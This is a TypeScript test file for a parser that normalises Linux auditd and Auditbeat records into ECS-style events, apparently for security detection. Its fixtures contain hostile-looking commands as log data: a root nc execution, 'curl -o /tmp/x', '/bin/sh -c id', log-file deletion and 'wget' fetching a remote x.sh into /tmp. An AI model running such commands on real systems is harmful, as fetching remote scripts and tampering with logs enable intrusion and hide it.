import { parse } from './index';

const ctx = { receivedAt: new Date('2026-03-15T04:00:00Z') };
const p = (line: string) => parse(line, ctx) as Record<string, any>;

describe('auditd', () => {
  test('an enriched SYSCALL execve record', () => {
    const ev = p('node=web01 type=SYSCALL msg=audit(1773482400.123:8812): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=0 items=2 ppid=900 pid=901 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="nc" exe="/usr/bin/nc.openbsd" key="susp_exec" ARCH=x86_64 SYSCALL=execve AUID="hoang" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"');
    expect(ev['@timestamp']).toBe('2026-03-14T10:00:00.123Z');
    expect(ev.event).toMatchObject({ dataset: 'auditd.log', action: 'executed', category: ['process'], type: ['start'], outcome: 'success' });
    expect(ev.process).toMatchObject({ pid: 901, parent: { pid: 900 }, name: 'nc', executable: '/usr/bin/nc.openbsd', exit_code: 0 });
    expect(ev.user).toMatchObject({ id: '0', name: 'root', audit: { id: '1001', name: 'hoang' } });
    expect(ev.auditd.log).toMatchObject({ record_type: 'SYSCALL', sequence: 8812, key: 'susp_exec', success: true, node: 'web01' });
    expect(ev.host).toEqual({ hostname: 'web01', architecture: 'x86_64' });
  });

  test('a USER_AUTH failure with the inner msg fields', () => {
    const ev = p("type=USER_AUTH msg=audit(1773482401.000:8813): pid=3333 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'");
    expect(ev.event).toMatchObject({ action: 'authenticated', category: ['authentication'], outcome: 'failure' });
    expect(ev.user.name).toBe('root');
    expect(ev.user.audit).toBeUndefined();
    expect(ev.source.ip).toBe('203.0.113.9');
    expect(ev.process.executable).toBe('/usr/sbin/sshd');
  });

  test('EXECVE arguments and hex PROCTITLE are decoded', () => {
    const ex = p('type=EXECVE msg=audit(1773482402.000:8814): argc=3 a0="curl" a1="-o" a2="/tmp/x"');
    expect(ex.process.args).toEqual(['curl', '-o', '/tmp/x']);
    const pt = p('type=PROCTITLE msg=audit(1773482402.000:8814): proctitle=2F62696E2F7368002D63006964');
    expect(pt.process.command_line).toBe('/bin/sh -c id');
  });


  test('a raw SYSCALL record carries the serial as event.sequence and the audit user in related.user', () => {
    const ev = p('type=SYSCALL msg=audit(1773482403.500:9120): arch=c000003e syscall=87 success=yes exit=0 a0=7ffd a1=0 a2=0 a3=0 items=2 ppid=811 pid=4402 auid=1002 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=9 comm="rm" exe="/usr/bin/rm" key="logs_tamper" ARCH=x86_64 SYSCALL=unlink AUID="minhtq" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"');
    expect(ev.event).toMatchObject({ action: 'deleted', category: ['file'], sequence: 9120 });
    expect(ev.user).toMatchObject({ audit: { id: '1002', name: 'minhtq' }, saved: { id: '0' }, filesystem: { id: '0' } });
    expect(ev.related.user).toEqual(expect.arrayContaining(['root', 'minhtq']));
  });

  test('records of one serial joined by newlines (an agent that forwards them together) are one event', () => {
    const lines = [
      'type=SYSCALL msg=audit(1773482404.250:9131): arch=c000003e syscall=59 success=yes exit=0 a0=5612 a1=5613 a2=5614 a3=0 items=2 ppid=700 pid=4500 auid=1002 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=9 comm="wget" exe="/usr/bin/wget" key="net_tools"',
      'type=EXECVE msg=audit(1773482404.250:9131): argc=3 a0="wget" a1="-q" a2="http://198.51.100.20/x.sh"',
      'type=CWD msg=audit(1773482404.250:9131): cwd="/tmp"',
      'type=PATH msg=audit(1773482404.250:9131): item=0 name="/usr/bin/wget" inode=393 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
    ];
    const ev = parse({ message: lines.join('\n') }, { ...ctx, dataset: 'auditd.log' }) as Record<string, any>;
    expect(ev.event).toMatchObject({ action: 'executed', category: ['process'], sequence: 9131 });
    expect(ev.process).toMatchObject({ pid: 4500, executable: '/usr/bin/wget', args: ['wget', '-q', 'http://198.51.100.20/x.sh'], args_count: 3, working_directory: '/tmp' });
    expect(ev.process.command_line).toBe('wget -q http://198.51.100.20/x.sh');
    expect(ev.file.path).toBe('/usr/bin/wget');
    // the SYSCALL's own arguments are not overwritten by the EXECVE's
    expect(ev.auditd.log.a0).toBe('5612');
    // every record type of the serial, so Sigma's `type: EXECVE` holds on the one event
    expect(ev.auditd.log.record_type).toBe('SYSCALL');
    expect(ev.auditd.log.record_types).toEqual(['SYSCALL', 'EXECVE', 'CWD', 'PATH']);
    expect(ev.event.original).toBe(lines.join('\n'));
    const mixed = p(`${lines[0]}\ntype=CWD msg=audit(1773482409.000:9140): cwd="/root"`);
    expect(mixed.process.working_directory).toBeUndefined();
    expect(mixed.tags).toContain('auditd_records_not_coalesced');
  });

  test("Auditbeat's coalesced document: ids beyond ECS also under auditd.user, numbers as numbers, the serial as event.sequence", () => {
    const records = 'type=SYSCALL msg=audit(1773482405.100:9150): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=4601 auid=1003 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 comm="bash" exe="/usr/bin/bash" key="web_exec"\ntype=EXECVE msg=audit(1773482405.100:9150): argc=3 a0="bash" a1="-c" a2="id"';
    const doc = {
      '@timestamp': '2026-03-14T10:00:05.100Z',
      message: records,
      auditd: {
        message_type: 'syscall',
        sequence: 9150,
        result: 'success',
        data: { arch: 'x86_64', argc: '3', syscall: 'execve', exit: '0', socket: { port: '443' }, 'new-ses': '12' },
        summary: { actor: { primary: 'thanhnv', secondary: 'www-data' }, action: 'executed', how: '/usr/bin/bash' },
      },
      event: { action: 'executed', category: ['process'], type: ['start'], outcome: 'success', id: '9150' },
      process: { pid: '4601', parent: { pid: 900 }, executable: '/usr/bin/bash', name: 'bash', args: ['bash', '-c', 'id'] },
      user: {
        id: '33', name: 'www-data',
        audit: { id: '1003', name: 'thanhnv' },
        saved: { id: '33', name: 'www-data' },
        filesystem: { id: '33', name: 'www-data', group: { id: '33', name: 'www-data' } },
      },
      tags: ['web_exec'],
    };
    const ev = parse(doc, { ...ctx, dataset: 'auditd.log' }) as Record<string, any>;
    expect(ev['@timestamp']).toBe('2026-03-14T10:00:05.100Z');
    expect(ev.event).toMatchObject({ dataset: 'auditd.log', action: 'executed', outcome: 'success', sequence: 9150, original: records });
    expect(ev.event.id).toBeUndefined();
    expect(ev.auditd.sequence).toBeUndefined();
    expect(ev.auditd.user).toEqual({ audit: { id: '1003', name: 'thanhnv' }, saved: { id: '33', name: 'www-data' }, filesystem: { id: '33', name: 'www-data', group: { id: '33', name: 'www-data' } } });
    expect(ev.user.audit.name).toBe('thanhnv');
    expect(ev.auditd.data).toMatchObject({ argc: 3, socket: { port: 443 }, new_ses: '12' });
    expect(ev.process).toMatchObject({ pid: 4601, args_count: 3 });
    expect(ev.host.architecture).toBe('x86_64');
    expect(ev.related.user).toEqual(expect.arrayContaining(['www-data', 'thanhnv']));
    expect(ev.tags).toEqual(['web_exec']);
    // from Auditbeat over the Beats listener nothing is pinned: the document is recognised
    const auto = parse(doc, ctx) as Record<string, any>;
    expect(auto.event).toMatchObject({ dataset: 'auditd.log', sequence: 9150 });
    expect(auto.auditd.user.audit.name).toBe('thanhnv');
  });
});
